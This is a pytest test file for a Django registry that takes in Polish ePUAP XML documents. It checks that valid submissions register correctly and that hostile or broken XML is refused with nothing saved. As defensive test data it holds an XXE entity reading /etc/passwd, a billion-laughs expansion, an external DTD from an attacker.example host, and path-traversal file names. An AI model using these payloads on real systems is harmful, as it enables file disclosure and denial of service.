"""ePUAP documents: a good one, and hostile or broken XML that must fail cleanly with nothing saved."""

import base64
import datetime as dt
import hashlib
import os

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from rest_framework.test import APIClient

from registry.channels.epuap import register_document
from registry.models import Channel, Correspondent, Delivery, DocumentVersion, HistoryEntry
from registry.tests.factories import pdf_upload

NAMESPACES = (
    'xmlns:wnio="http://crd.gov.pl/wzor/2013/12/12/1410/" '
    'xmlns:str="http://crd.gov.pl/xml/schematy/struktura/2009/11/16/" '
    'xmlns:meta="http://crd.gov.pl/xml/schematy/meta/2009/11/16/" '
    'xmlns:oso="http://crd.gov.pl/xml/schematy/osoba/2009/11/16/" '
    'xmlns:inst="http://crd.gov.pl/xml/schematy/instytucja/2009/11/16/" '
    'xmlns:adr="http://crd.gov.pl/xml/schematy/adres/2009/11/09/"'
)
PDF = pdf_upload(text="Zalacznik do wniosku").read()


def zalacznik(name="mapa.pdf", data=PDF, encoding="base64", payload=None):
    content = payload if payload is not None else base64.b64encode(data).decode()
    return (
        f'<str:Zalacznik format="application/pdf" kodowanie="{encoding}" nazwaPliku="{name}">'
        f"<str:DaneZalacznika>{content}</str:DaneZalacznika><str:OpisZalacznika/></str:Zalacznik>"
    )


def document(
    *, identifier="EPUAP-2026-000123", sender=None, attachments=None, name="Wniosek o wydanie zaświadczenia",
    date="2026-11-19", prolog="",
) -> bytes:
    if sender is None:
        sender = (
            "<oso:Osoba><oso:IdOsoby><oso:PESEL>44051401359</oso:PESEL></oso:IdOsoby>"
            "<oso:Imie>Żaneta</oso:Imie><oso:Nazwisko>Ślęzak</oso:Nazwisko>"
            "<adr:Adres><adr:KodPocztowy>12345</adr:KodPocztowy><adr:Miejscowosc>Zielona Dolina</adr:Miejscowosc>"
            "<adr:Ulica>Źródlana</adr:Ulica><adr:Budynek>5</adr:Budynek><adr:Lokal>2</adr:Lokal></adr:Adres>"
            "<adr:Kontakt><adr:Email>zaneta@example.pl</adr:Email></adr:Kontakt></oso:Osoba>"
        )
    if attachments is None:
        attachments = [zalacznik()]
    ident = f"<meta:Identyfikator><meta:Wartosc>{identifier}</meta:Wartosc></meta:Identyfikator>" if identifier else ""
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<wnio:Dokument {NAMESPACES}>'
        "<wnio:OpisDokumentu/><wnio:DaneDokumentu>"
        f"<str:Naglowek><str:NazwaDokumentu>{name}</str:NazwaDokumentu>{ident}</str:Naglowek>"
        f'<meta:Data typDaty="stworzony"><meta:Czas>{date}</meta:Czas></meta:Data>'
        f"<str:Nadawcy><meta:Podmiot>{sender}</meta:Podmiot></str:Nadawcy>"
        "<str:Adresaci><meta:Podmiot><inst:Instytucja><inst:NazwaInstytucji>Urząd Gminy Zielona Dolina"
        "</inst:NazwaInstytucji></inst:Instytucja></meta:Podmiot></str:Adresaci>"
        "</wnio:DaneDokumentu><wnio:TrescDokumentu>"
        "<wnio:MiejscowoscDokumentu>Zielona Dolina</wnio:MiejscowoscDokumentu>"
        "<wnio:Informacje><wnio:Informacja>Proszę o wydanie zaświadczenia.</wnio:Informacja></wnio:Informacje>"
        f"<str:Zalaczniki>{''.join(attachments)}</str:Zalaczniki></wnio:TrescDokumentu></wnio:Dokument>"
    )
    return xml.encode("utf-8")


def _files_on_disk(settings):
    found = []
    for root, _dirs, files in os.walk(settings.MEDIA_ROOT):
        found += [os.path.join(root, f) for f in files]
    return found


def _nothing_saved(settings):
    assert Delivery.objects.count() == 0
    assert Correspondent.objects.count() == 0
    assert HistoryEntry.objects.count() == 0
    assert _files_on_disk(settings) == []


def test_good_document_is_registered_with_sender_and_attachments(office, settings):
    xml = document()
    submitted = dt.datetime(2026, 11, 20, 10, 5, tzinfo=dt.UTC)
    delivery, created = register_document(
        xml, registered_by=office["clerk"], upp={"id": "UPP-77", "submitted_at": submitted}
    )
    assert created
    assert delivery.channel == Channel.EPUAP and delivery.form == "electronic"
    assert delivery.external_id == "EPUAP-2026-000123"
    assert delivery.subject == "Wniosek o wydanie zaświadczenia"
    assert delivery.received_at == submitted
    assert delivery.letter_date == dt.date(2026, 11, 19)
    assert delivery.receipt_evidence["received_at_source"] == "UPP"
    assert delivery.receipt_evidence["upp"]["id"] == "UPP-77" and delivery.receipt_evidence["code"] == "UPP"
    sender = delivery.sender
    assert (sender.first_name, sender.last_name, sender.pesel) == ("Żaneta", "Ślęzak", "44051401359")
    assert (sender.postal_code, sender.city, sender.street, sender.building_number, sender.flat_number) == (
        "12-345", "Zielona Dolina", "Źródlana", "5", "2"
    )
    assert sender.email == "zaneta@example.pl"
    versions = list(DocumentVersion.objects.filter(document__delivery=delivery).order_by("document__pk"))
    assert [v.original_name for v in versions] == ["dokument-epuap.xml", "mapa.pdf"]
    assert [v.document.title for v in versions] == [
        "Wniosek o wydanie zaświadczenia (ePUAP)", "Wniosek o wydanie zaświadczenia – załącznik 1 (ePUAP)",
    ]
    assert versions[0].sha256 == hashlib.sha256(xml).hexdigest()  # the original, unchanged
    assert versions[1].mime_type == "application/pdf" and versions[1].size == len(PDF)

    again, created_again = register_document(xml, registered_by=office["clerk"])
    assert (again.pk, created_again) == (delivery.pk, False)
    assert Delivery.objects.count() == 1


def test_institution_sender_and_no_identifier_uses_the_hash(office):
    sender = (
        "<inst:Instytucja><inst:NazwaInstytucji>Przedsiębiorstwo Wodociągów sp. z o.o.</inst:NazwaInstytucji>"
        "<inst:IdInstytucji><inst:REGON>123456785</inst:REGON><inst:NIP>1234563211</inst:NIP></inst:IdInstytucji>"
        "</inst:Instytucja>"
    )
    xml = document(identifier="", sender=sender, attachments=[zalacznik("opis.pdf", encoding="URI",
                                                                        payload="https://example.pl/opis.pdf")])
    delivery, _ = register_document(xml, registered_by=office["clerk"])
    assert delivery.external_id == "sha256:" + hashlib.sha256(xml).hexdigest()
    assert delivery.sender.kind == Correspondent.Kind.INSTITUTION
    assert delivery.sender.regon == "123456785"
    assert delivery.sender.nip == ""  # wrong check digit: not kept, said in the remarks
    assert "NIP" in delivery.remarks
    assert "https://example.pl/opis.pdf" in delivery.remarks  # URI attachment recorded, not fetched
    assert delivery.receipt_evidence["received_at_source"] == "registration"
    assert DocumentVersion.objects.filter(document__delivery=delivery).count() == 1


def test_invalid_pesel_is_not_kept_but_the_letter_is_registered(office):
    sender = "<oso:Osoba><oso:Imie>Jan</oso:Imie><oso:Nazwisko>Nowak</oso:Nazwisko><oso:PESEL>44051401358</oso:PESEL>" \
             "</oso:Osoba>"
    delivery, _ = register_document(document(sender=sender), registered_by=office["clerk"])
    assert delivery.sender.last_name == "Nowak" and delivery.sender.pesel == ""
    assert "PESEL" in delivery.remarks


XXE = document(prolog='<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', name="&xxe;")
BILLION_LAUGHS = document(
    prolog=(
        '<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
                  for i in range(1, 10))
        + "]>"
    ),
    name="&lol9;",
)
EXTERNAL_DTD = document(prolog='<!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">')


@pytest.mark.parametrize("xml", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"])
def test_hostile_xml_fails_cleanly(office, settings, xml):
    with translation.override("pl"), pytest.raises(ValidationError) as info:
        register_document(xml, registered_by=office["clerk"])
    assert info.value.code == "epuap_xml_unsafe"
    assert "DTD" in info.value.messages[0] and "niedozwolon" in info.value.messages[0]
    _nothing_saved(settings)


@pytest.mark.parametrize(
    "xml",
    [b"", b"<wnio:Dokument", b"not xml at all", document().replace(b"</wnio:Dokument>", b""),
     b'<?xml version="1.0"?><Inny/>'],
    ids=["empty", "truncated", "text", "unclosed", "wrong-root"],
)
def test_malformed_xml_is_a_translated_validation_error(office, settings, xml):
    with translation.override("pl"), pytest.raises(ValidationError) as info:
        register_document(xml, registered_by=office["clerk"])
    assert "ePUAP" in info.value.messages[0]
    _nothing_saved(settings)


def test_oversized_base64_attachment_is_refused_before_decoding(office, settings):
    settings.MAX_ATTACHMENT_SIZE = 1000
    xml = document(attachments=[zalacznik("duzy.pdf", data=b"%PDF-1.4 " + b"x" * 2000)])
    with pytest.raises(ValidationError) as info:
        register_document(xml, registered_by=office["clerk"])
    assert info.value.code == "too_large"
    _nothing_saved(settings)


def test_oversized_document_is_refused(office, settings):
    settings.EPUAP_MAX_DOCUMENT_SIZE = 500
    with pytest.raises(ValidationError):
        register_document(document(), registered_by=office["clerk"])
    _nothing_saved(settings)


def test_broken_base64_is_refused(office, settings):
    with pytest.raises(ValidationError):
        register_document(document(attachments=[zalacznik(payload="@@@ not base64 @@@")]),
                          registered_by=office["clerk"])
    _nothing_saved(settings)


def test_traversal_file_name_inside_the_xml_gets_a_safe_name(office, settings):
    xml = document(attachments=[zalacznik("../../../etc/cron.d/evil.pdf"), zalacznik("..\\..\\boot.ini")])
    delivery, _ = register_document(xml, registered_by=office["clerk"])
    names = list(
        DocumentVersion.objects.filter(document__delivery=delivery).order_by("document__pk")
        .values_list("original_name", flat=True)
    )
    assert names == ["dokument-epuap.xml", "zalacznik-1.pdf", "zalacznik-2.ini"]
    assert "../../../etc/cron.d/evil.pdf" in delivery.remarks
    for path in _files_on_disk(settings):
        assert os.path.realpath(path).startswith(os.path.realpath(settings.MEDIA_ROOT))
        assert "evil" not in path and "boot" not in path


def _api(user):
    client = APIClient()
    client.force_authenticate(user)
    return client


def test_api_takes_raw_xml_and_multipart(office):
    clerk = _api(office["clerk"])
    response = clerk.post(
        "/api/v1/intake/epuap/?submitted_at=2026-11-20T10:05:00%2B01:00&upp_id=UPP-1",
        data=document(), content_type="application/xml",
    )
    assert response.status_code == 201, response.content
    body = response.json()
    assert body["channel"] == "epuap" and body["external_id"] == "EPUAP-2026-000123"
    assert body["received_at"].startswith("2026-11-20T10:05:00")
    again = clerk.post("/api/v1/intake/epuap/", data=document(), content_type="application/xml")
    assert again.status_code == 200 and again.json()["id"] == body["id"]

    upload = SimpleUploadedFile("pismo.xml", document(identifier="EPUAP-2"), content_type="application/xml")
    response = clerk.post("/api/v1/intake/epuap/", {"document": upload}, format="multipart")
    assert response.status_code == 201, response.content
    assert response.json()["external_id"] == "EPUAP-2"


def test_api_refuses_bad_xml_and_non_clerks(office):
    with translation.override("pl"):
        response = _api(office["clerk"]).post("/api/v1/intake/epuap/", data=XXE, content_type="application/xml",
                                              HTTP_ACCEPT_LANGUAGE="pl")
    assert response.status_code == 400
    assert "DTD" in str(response.json())
    response = _api(office["worker_rb"]).post("/api/v1/intake/epuap/", data=document(),
                                              content_type="application/xml")
    assert response.status_code == 403
    assert Delivery.objects.count() == 0


def test_document_inside_an_enveloping_signature(office):
    inner = document(identifier="EPUAP-SIGNED").split(b"?>", 1)[1]
    xml = (
        b'<?xml version="1.0" encoding="UTF-8"?><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#">'
        b"<ds:SignedInfo/><ds:SignatureValue>AAAA</ds:SignatureValue><ds:Object>" + inner
        + b"</ds:Object></ds:Signature>"
    )
    delivery, created = register_document(xml, registered_by=office["clerk"])
    assert created and delivery.external_id == "EPUAP-SIGNED"
    assert delivery.sender.last_name == "Ślęzak"
    first = DocumentVersion.objects.filter(document__delivery=delivery).order_by("document__pk").first()
    assert first.sha256 == hashlib.sha256(xml).hexdigest()


@pytest.mark.parametrize("when", ["2025-13-45T10:00:00", "wczoraj"])
def test_api_impossible_submitted_at_is_a_400(office, when):
    response = _api(office["clerk"]).post(f"/api/v1/intake/epuap/?submitted_at={when}", data=document(),
                                          content_type="application/xml")
    assert response.status_code == 400
    assert "ISO 8601" in str(response.json())


def test_impossible_letter_date_in_the_document_still_registers_the_letter(office):
    delivery, created = register_document(document(date="2026-13-45"), registered_by=office["clerk"],
                                          upp={"submitted_at": "2026-11-20T10:05:00+01:00"})
    assert created and delivery.letter_date is None


def test_impossible_upp_time_falls_back_to_the_time_of_registration(office):
    delivery, created = register_document(document(), registered_by=office["clerk"],
                                          upp={"submitted_at": "2026-11-31T10:05:00"})
    assert created and delivery.received_at is not None
